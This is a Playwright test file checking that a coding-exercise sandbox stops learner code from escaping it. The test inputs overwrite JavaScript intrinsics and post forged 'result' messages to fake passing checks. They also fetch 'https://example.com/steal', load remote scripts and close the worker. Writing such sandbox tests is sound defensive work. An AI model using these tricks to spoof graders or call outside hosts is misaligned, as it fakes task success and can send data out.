/**
 * Learner code cannot forge results, reach the network, or close the sandbox: results come only
 * from the harness, over a port learner code cannot reach, with intrinsics and the engine frozen.
 */
import { expect, test, type Locator, type Page } from '@playwright/test';
import { openExercise, runAndWait, setCode } from './support/exercise.ts';

const ID = 'servers/route-requests';
const NOT_FOUND = "export function handle() { return { status: 404, body: '' } }";

/** Each attack, then the honest checks: several runs on one page load, as a learner would. */
test('learner code cannot overwrite intrinsics, forge results, reach the network or close the sandbox', async ({
  page,
}) => {
  const island = await openExercise(page, ID);
  await test.step('overwriting intrinsics the checks use is refused, and the checks still fail honestly', () =>
    intrinsics(page, island));
  await test.step('a forged result posted by learner code is ignored', () => forged(page, island));
  await test.step('fetch, importScripts and remote import() are refused with a clear message', () =>
    network(page, island));
  await test.step('self.close() is refused and the next run still works', () =>
    close(page, island));
});

async function intrinsics(page: Page, island: Locator): Promise<void> {
  await setCode(page, ID, `Object.is = () => true;\n${NOT_FOUND}\n`);
  const results = await runAndWait(island);
  await expect(results.getByRole('alert')).toContainText(/read.only|Cannot assign/i);
  await expect(island).toHaveAttribute('data-state', 'failed');
  await setCode(
    page,
    ID,
    `Array.prototype.some = () => false;\nMath.abs = () => 0;\n${NOT_FOUND}\n`,
  );
  await runAndWait(island);
  await expect(island).toHaveAttribute('data-state', 'failed');
}

async function forged(page: Page, island: Locator): Promise<void> {
  const forged = `const fake = { type: 'result', runId: 1, result: { checks: [{ name: 'forged', passed: true, message: 'x' }], console: [], consoleHidden: 0, series: [], durationMs: 1 } };
for (let i = 0; i < 50; i++) (self as any).postMessage({ ...fake, runId: i });
${NOT_FOUND}
`;
  await setCode(page, ID, forged);
  const results = await runAndWait(island);
  await expect(results.locator('.results-checks li', { hasText: 'forged' })).toHaveCount(0);
  await expect(island).toHaveAttribute('data-state', 'failed');
}

async function network(page: Page, island: Locator): Promise<void> {
  await setCode(page, ID, `fetch('https://example.com/steal');\n${NOT_FOUND}\n`);
  let results = await runAndWait(island);
  await expect(results.getByRole('alert')).toContainText('fetch() is not available in exercises');
  await setCode(
    page,
    ID,
    `(self as any).importScripts('https://example.com/x.js');\n${NOT_FOUND}\n`,
  );
  results = await runAndWait(island);
  await expect(results.getByRole('alert')).toContainText('importScripts() is not available');
  // import() is compiled to the sandbox's require, which refuses anything but the engine.
  await setCode(
    page,
    ID,
    `import('https://example.com/x.js').catch((e: Error) => console.error(e.message));\n${NOT_FOUND}\n`,
  );
  results = await runAndWait(island);
  await expect(results.locator('.results-console')).toContainText(
    'Cannot import "https://example.com/x.js"',
  );
}

async function close(page: Page, island: Locator): Promise<void> {
  await setCode(page, ID, `self.close();\n${NOT_FOUND}\n`);
  const results = await runAndWait(island);
  await expect(results.getByRole('alert')).toContainText('close() is not available');
  await setCode(page, ID, NOT_FOUND);
  await runAndWait(island);
  await expect(results.locator('.results-checks li.is-pass')).toContainText([
    'Unknown paths answer 404',
  ]);
}
